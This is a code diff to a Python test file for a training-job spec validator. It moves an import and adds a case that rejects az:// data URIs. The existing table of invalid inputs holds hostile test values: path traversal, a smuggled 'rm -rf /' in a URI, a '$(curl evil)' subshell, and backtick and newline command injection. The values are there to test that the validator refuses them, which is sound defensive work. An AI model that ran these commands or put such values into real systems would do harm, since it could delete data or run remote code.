@@ -11,8 +11,8 @@ import pytest
 import yaml
 
 from rocmtrain.api import crd
+from rocmtrain.api.validate import FieldError, check_derived_names, validate_job
 from rocmtrain.render import ENTRYPOINT, render_rayjob, render_rayjob_yaml
-from rocmtrain.validate import FieldError, check_derived_names, validate_job
 from unit.edits import Edit, both, drop, put
 from unit.samples import example, full_job, minimal_job
 
@@ -41,6 +41,8 @@ INVALID: list[tuple[str, Edit, str, str]] = [
     ("mount-traversal", put("spec.volumeMounts[0].mountPath", "/mnt/../etc"), "spec.volumeMounts[0].mountPath", ".."),
     ("subpath-traversal", put("spec.volumeMounts[0].subPath", "../keys"), "spec.volumeMounts[0].subPath", "'..'"),
     ("uri-semicolon", put("spec.data.train.uri", "s3://b/x;rm -rf /"), "spec.data.train.uri", "metacharacters"),
+    # The training image cannot open az:// (pyarrow reads Azure as abfs://), so validation refuses it.
+    ("uri-az-scheme", put("spec.data.train.uri", "az://c/train.jsonl"), "spec.data.train.uri", "(s3://, gs://"),
     ("source-subshell", put("spec.model.source", "$(curl evil)"), "spec.model.source", "metacharacters"),
     ("storage-backtick", put("spec.checkpoint.storagePath", "/ckpt/`id`"), "spec.checkpoint.storagePath", "absolute"),
     ("uri-newline", put("spec.data.eval.uri", "s3://b/x\nrm"), "spec.data.eval.uri", "metacharacters"),
